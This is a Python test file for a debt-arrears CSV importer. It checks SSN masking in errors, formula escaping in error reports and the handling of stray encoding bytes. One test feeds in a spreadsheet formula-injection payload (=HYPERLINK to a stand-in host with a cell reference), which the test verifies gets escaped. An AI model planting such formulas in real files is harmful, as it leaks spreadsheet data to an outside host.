"""Import errors never store or print a national id in full; exports of them escape formulas; a file not
valid in one encoding is refused with the row and byte that broke it, never turned into mojibake."""

import pytest

from arrears.imports.models import ImportJob, ImportRowError
from arrears.imports.selectors import import_job_errors_csv

from .test_acc_import import HEADER, keep_test_connection, run  # noqa: F401 - fixture

SSN_HEADER = "account_ref,first_name,last_name,ssn,balance\n"


@pytest.fixture
def write(tmp_path):
    def write(data: bytes, name="accounts.csv"):
        path = tmp_path / name
        path.write_bytes(data)
        return path

    return write


def test_an_invalid_national_id_is_never_stored_or_printed_in_full(client_, write, capsys):
    # given a row whose SSN is invalid (area 000)
    path = write((SSN_HEADER + "A1,Jane,Doe,000-12-3456,100\n").encode())

    # when it is imported
    code, summary, err = run(capsys, path, "--json")
    text_code, _, text_err = run(capsys, path)

    # then the error names the row and column, and shows only the last four digits
    assert code == 1 and text_code == 1
    assert summary["errors"][0]["column"] == "ssn"
    assert summary["errors"][0]["value"] == "*******3456"
    stored = list(ImportRowError.objects.values_list("value", flat=True))
    assert stored and all("000-12" not in v and "00012" not in v for v in stored)
    assert "000-12" not in err + text_err + str(summary)


def test_the_error_report_escapes_formulas(client_, write, capsys):
    path = write((HEADER + '=HYPERLINK("http://x/?"&A1),Jane,Doe,,,,,,,,12x,,,\n').encode())
    run(capsys, path, "--json")
    job = ImportJob.objects.latest("pk")

    report = "".join(import_job_errors_csv(job=job))

    assert "=HYPERLINK" not in report.replace("'=HYPERLINK", "")


def test_a_stray_byte_is_refused_with_its_row_and_byte_not_decoded_as_mojibake(client_, write, capsys):
    # given a UTF-8 file ("José") with one Windows-1252 byte (0xE9, "é") in its third line
    data = (SSN_HEADER + "A1,José,Doe,,100\n").encode() + b"A2,Ren\xe9,Roe,,200\n"
    path = write(data)

    # when it is imported
    code, summary, err = run(capsys, path, "--json")

    # then it is refused, naming the row and the byte offset; nothing is written (as "JosÃ©" or else)
    assert code == 2, (summary, err)
    stray = data.index(b"Ren") + 3
    assert "row 3" in err and f"byte {stray} (0xe9)" in err
    from arrears.debtors.models import Debtor

    assert not Debtor.objects.filter(last_name__in=["Doe", "Roe"]).exists()


def test_a_file_wholly_in_windows_1252_is_still_read_as_such(client_, write, capsys):
    path = write((SSN_HEADER + "A1,René,Roe,,200\n").encode("cp1252"))

    code, summary, err = run(capsys, path, "--json")

    from arrears.debtors.models import Debtor

    assert code == 0, (summary, err)
    assert Debtor.objects.filter(first_name="René").exists()
